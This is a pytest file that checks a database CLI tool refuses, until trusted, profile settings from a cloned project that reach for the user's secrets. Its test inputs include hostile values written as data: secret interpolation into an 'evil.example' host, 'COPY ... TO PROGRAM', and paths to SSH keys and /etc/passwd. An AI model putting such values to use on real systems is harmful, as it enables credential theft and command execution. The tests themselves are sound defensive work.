"""What a cloned repository may do to somebody who types `dbtool query` inside it: nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from dbtool.errors import ProfileError
from dbtool.profiles import Rule, current_name, resolve
from dbtool.profiles.paths import NOWHERE
from dbtool.profiles.trust.record import plan_trust, record_trust
from tests.profiles.world import World

USER = """
    [profiles.prod]
    engine = "postgresql"
    host = "db.example.com"
    password = "hush"
"""
LITERAL = '[profiles.theirs]\nengine = "postgresql"\nhost = "h"\nuser = "u"\n'


def test_literal_values_need_no_trust(world: World) -> None:
    world.write_project("""
        default = "b"
        [profiles.a]
        engine = "sqlite"
        path = "data/shop.db"
        create = true
        [profiles.b]
        url = "postgresql://app:literal@127.0.0.1/shop"
        tls_ca = "certificates/ca.pem"
        [profiles.c]
        extends = "b"
        tags = ["x"]
        [profiles.d]
        engine = "sqlite"
        path = ":memory:"
    """)
    catalog = world.load()
    assert catalog.problems == ()
    assert not catalog.files[0].trusted
    assert world.choose().profile.name == "b"
    assert world.choose("a").profile.name == "a"


@pytest.mark.parametrize(
    ("lines", "key"),
    [
        ('password = { env = "AWS_SECRET" }', "password"),
        ('password = { file = "secret" }', "password"),
        ('password = { command = ["touch", "/tmp/x"] }', "password"),
        ('password = { keyring = "shop/ann" }', "password"),
        ('password = "${AWS_SECRET}"', "password"),
        ('user = "${AWS_SECRET:-x}"', "user"),
        ('host = "x.${AWS_SECRET}.evil.example"', "host"),
        ('tags = ["${AWS_SECRET}"]', "tags"),
        ('pool = { reset = "${AWS_SECRET}" }', "pool.reset"),
        ("on_connect = [\"COPY x TO PROGRAM 'y'\"]", "on_connect"),
        ('service = "prod"', "service"),
        ('tls_ca = "../../../.ssh/id_rsa"', "tls_ca"),
        ('tls_cert = "/etc/passwd"', "tls_cert"),
        ('tls_key = "~/.ssh/id_rsa"', "tls_key"),
        ('socket = "/var/run/postgresql"', "socket"),
    ],
)
def test_what_reaches_for_the_users_things_names_its_line_and_the_cure(world: World, lines: str, key: str) -> None:
    world.write(world.project / "dbtool.toml", f'[profiles.x]\nengine = "postgresql"\n{lines}\n')
    (problem,) = world.load().problems
    assert (problem.line, problem.key) == (3, key)
    assert problem.message.startswith("needs trust: ")
    assert "run `dbtool profile trust` in " in problem.message
    assert str(world.project) in problem.message
    with pytest.raises(ProfileError, match=r"dbtool\.toml:3: profile 'x': .*needs trust"):
        world.choose("x")


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://u:${AWS_SECRET}@evil.example/d",
        "${DATABASE_URL}",
        "postgresql://evil.example/d?service=prod",
        "postgresql://evil.example/d?sslkey=/home/ann/.ssh/id_rsa",
        "postgresql://%2Fvar%2Frun%2Fpostgresql/d",
        "sqlite:////etc/passwd",
        "sqlite:///../../.config/secrets.db",
    ],
)
def test_a_url_reaches_no_further_than_the_keys_it_stands_for(world: World, url: str) -> None:
    engine = 'engine = "postgresql"\n' if url.startswith("$") else ""
    world.write_project(f'[profiles.x]\nurl = "{url}"\n{engine}')
    (problem,) = world.load().problems
    assert (problem.line, problem.key) == (2, "url")
    assert "needs trust" in problem.message


def test_an_option_file_needs_trust(world: World) -> None:
    world.write_project('[profiles.x]\nengine = "mysql"\noption_file = "my.cnf"\n')
    with pytest.raises(ProfileError, match="option_file: needs trust"):
        world.get("x")


@pytest.mark.parametrize("name", ["link.db", "linked/x.db", "dangling.db", "sub/../link.db"])
def test_a_link_inside_the_project_leads_no_further_than_a_path(world: World, name: str) -> None:
    (world.home / "private").mkdir()
    (world.project / "sub").mkdir()
    (world.project / "link.db").symlink_to(world.write(world.home / "private" / "x.db", "x"))
    (world.project / "linked").symlink_to(world.home / "private")
    (world.project / "dangling.db").symlink_to(world.home / "not-yet")
    world.write_project(f'[profiles.x]\nengine = "sqlite"\npath = "{name}"\ncreate = true\n')
    with pytest.raises(ProfileError, match="path: needs trust: its path leads outside the project"):
        world.get("x")


def test_a_link_that_stays_inside_is_a_path_like_any_other(world: World) -> None:
    (world.project / "link.db").symlink_to("real.db")
    world.write_project('[profiles.x]\nengine = "sqlite"\npath = "link.db"\n')
    assert world.get("x").path == "link.db"


def test_a_file_beside_the_project_with_its_name_as_a_prefix_is_outside(world: World) -> None:
    world.write_project('[profiles.x]\nengine = "sqlite"\npath = "../shop-secrets/x.db"\n')
    with pytest.raises(ProfileError, match="leads outside"):
        world.get("x")


def test_a_path_from_the_profiles_directory_may_go_up_inside_the_project(world: World) -> None:
    world.write(world.project / "profiles" / "x.toml", '[profiles.x]\nengine = "sqlite"\npath = "../x.db"\n')
    assert world.get("x").path == "../x.db"


def test_a_path_with_a_nul_is_refused_and_not_followed(world: World) -> None:
    world.write_project('[profiles.x]\nengine = "sqlite"\npath = "a\\u0000b"\n')
    with pytest.raises(ProfileError, match="NUL"):
        world.get("x")


def test_a_profile_file_that_links_outside_is_not_the_projects(world: World) -> None:
    user = world.write_user(USER)
    (world.project / "profiles").mkdir()
    (world.project / "profiles" / "x.toml").symlink_to(user)
    with pytest.raises(ProfileError, match="needs trust"):
        world.get("prod")
    moved = world.write(world.home / "elsewhere.toml", LITERAL)
    (world.project / "profiles" / "y.toml").symlink_to(moved)
    with pytest.raises(ProfileError, match="its file is a link to outside the project"):
        world.get("theirs")


def test_extending_a_users_profile_needs_trust(world: World) -> None:
    world.write_user(USER)
    world.write(world.project / "dbtool.toml", '[profiles.x]\nextends = "prod"\nhost = "evil.example"\n')
    with pytest.raises(ProfileError, match=r"dbtool\.toml:2: profile 'x': extends: needs trust: it extends 'prod'"):
        world.get("x")


def test_extending_ones_own_base_that_replaces_a_users_needs_trust(world: World) -> None:
    world.write_user(USER)
    world.write_project("""
        [profiles.prod]
        engine = "postgresql"
        [profiles.x]
        extends = "prod"
    """)
    with pytest.raises(ProfileError, match=r"'prod' is not valid: .*needs trust"):
        world.get("x")


def test_replacing_a_users_profile_needs_trust_and_the_users_is_not_used_silently(world: World) -> None:
    world.write_user(USER)
    world.write(world.project / "dbtool.toml", '\n[profiles.prod]\nengine = "postgresql"\nhost = "evil.example"\n')
    with pytest.raises(ProfileError, match=r"dbtool\.toml:2: profile 'prod': needs trust: it would replace your own"):
        world.choose("prod")


def test_a_pin_may_name_only_the_projects_profiles(world: World) -> None:
    world.write_user(USER)
    world.write_project(LITERAL + '[profiles.near]\nengine = "postgresql"\nhost = "localhost"\n')
    pin = world.pin("near")
    assert world.choose().profile.name == "near"
    world.pin("prod")
    with pytest.raises(ProfileError, match=rf"{pin}:1: needs trust: it names 'prod', which is not a profile of this"):
        world.choose()
    with pytest.raises(ProfileError, match="needs trust"):
        current_name(world.environment)
    assert world.choose("prod").profile.name == "prod"


def test_a_pin_without_a_project_needs_trust_as_well(world: World) -> None:
    world.write_user(USER)
    world.pin("prod")
    with pytest.raises(ProfileError, match="needs trust"):
        world.choose()
    assert world.trust() == (world.project / ".dbtool-profile",)
    assert world.choose().profile.name == "prod"
    assert current_name(world.environment) == "prod"


def test_a_strangers_pin_does_not_choose_among_named_files(world: World) -> None:
    world.variables["DBTOOL_CONFIG"] = str(world.write(world.home / "mine.toml", USER))
    world.pin("prod")
    with pytest.raises(ProfileError, match="needs trust"):
        world.choose()


@pytest.mark.parametrize("config", [".", "dbtool.toml"])
def test_a_pin_beside_named_files_was_named_with_them(world: World, config: str) -> None:
    world.write_project(USER)
    world.pin("prod")
    assert world.choose(config=config).rule is Rule.PIN
    assert current_name(world.environment, config=config) == "prod"


def test_a_default_may_name_only_the_projects_profiles(world: World) -> None:
    world.write_user(USER)
    world.write(world.project / "dbtool.toml", f'# hello\ndefault = "prod"\n{LITERAL}')
    with pytest.raises(ProfileError, match=r"dbtool\.toml:2: default: needs trust: it names 'prod'"):
        world.choose()
    with pytest.raises(ProfileError, match="needs trust"):
        current_name(world.environment)


def test_a_strangers_server_gets_no_password_that_lies_around(world: World) -> None:
    world.variables |= {"PGPASSWORD": "hush", "PGPASSFILE": str(world.home / "pass")}
    world.write(world.home / ".pgpass", "*:*:*:*:hush")
    world.write_project(LITERAL)
    target = world.resolve("theirs")
    assert target.password is None
    assert target.passfile == NOWHERE
    assert not Path(NOWHERE).exists()
    world.trust()
    target = world.resolve("theirs")
    assert (target.password, target.passfile) == ("hush", str(world.home / "pass"))


SECRETIVE = '[profiles.x]\nengine = "postgresql"\npassword = { env = "PW" }\n'


def test_trust_lets_a_project_do_everything(world: World) -> None:
    world.write_user(USER)
    world.write_project('default = "prod"\n' + SECRETIVE + 'on_connect = ["SELECT 1"]\n')
    with pytest.raises(ProfileError, match="needs trust"):
        world.get("x")
    assert world.trust() == (world.project / "dbtool.toml",)
    assert world.get("x").trusted
    assert world.load().files[0].trusted
    assert world.choose().profile.name == "prod"


def test_the_variable_trusts_a_project_as_in_continuous_integration(world: World) -> None:
    world.write_user(USER)
    world.write_project(SECRETIVE)
    world.pin("prod")
    world.variables["DBTOOL_TRUST_PROJECT"] = "1"
    assert world.get("x").trusted
    assert world.choose().profile.name == "prod"
    world.variables["DBTOOL_TRUST_PROJECT"] = "0"
    with pytest.raises(ProfileError, match="needs trust"):
        world.get("x")


@pytest.mark.parametrize("config", ["dbtool.toml", "."])
def test_a_project_that_was_named_is_trusted(world: World, config: str) -> None:
    world.write_project(SECRETIVE)
    world.variables |= {"PW": "hush", "DBTOOL_CONFIG": config}
    assert resolve(world.get("x"), world.environment).password == "hush"


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("dbtool.toml", SECRETIVE + "# changed\n"),
        ("profiles/more.toml", LITERAL + "\n"),
        ("profiles/new.toml", '[profiles.new]\nengine = "mysql"\n'),
        (".dbtool-profile", "theirs\n"),
        ("profiles/more.toml", None),
    ],
)
def test_any_change_after_trust_takes_it_back_and_the_error_says_so(
    world: World, path: str, content: str | None
) -> None:
    world.write_project(SECRETIVE)
    world.write(world.project / "profiles" / "more.toml", LITERAL)
    world.pin("x")
    world.trust()
    assert world.get("x").trusted
    if content is None:
        (world.project / path).unlink()
    else:
        world.write(world.project / path, content)
    with pytest.raises(ProfileError, match=r"needs trust: .* have changed since you trusted them"):
        world.get("x")
    world.trust()
    assert world.get("x").trusted


def test_trust_is_for_one_directory(world: World) -> None:
    world.write_project(SECRETIVE)
    world.trust()
    world.working_directory = world.home / "src" / "other"
    world.write(world.working_directory / "dbtool.toml", SECRETIVE)
    with pytest.raises(ProfileError, match="needs trust"):
        world.get("x")


def test_a_pin_that_nobody_looked_at_takes_trust_back_from_where_it_counts(world: World) -> None:
    world.write_project(SECRETIVE)
    world.trust()
    world.pin("x", world.project / "sub")
    assert world.get("x").trusted
    world.working_directory = world.project / "sub"
    with pytest.raises(ProfileError, match="needs trust"):
        world.get("x")
    world.trust()
    assert world.get("x").trusted
    world.working_directory = world.project
    assert world.get("x").trusted


def test_there_has_to_be_something_to_trust(world: World) -> None:
    world.write_user(USER)
    with pytest.raises(ProfileError, match="there is nothing to trust"):
        world.trust()


def test_what_is_recorded_is_what_was_read_not_what_came_after(world: World) -> None:
    world.write_project(LITERAL)
    catalog = world.load()
    world.write_project(SECRETIVE)
    record_trust(world.environment, plan_trust(world.environment, catalog.sources))
    with pytest.raises(ProfileError, match="needs trust"):
        world.get("x")
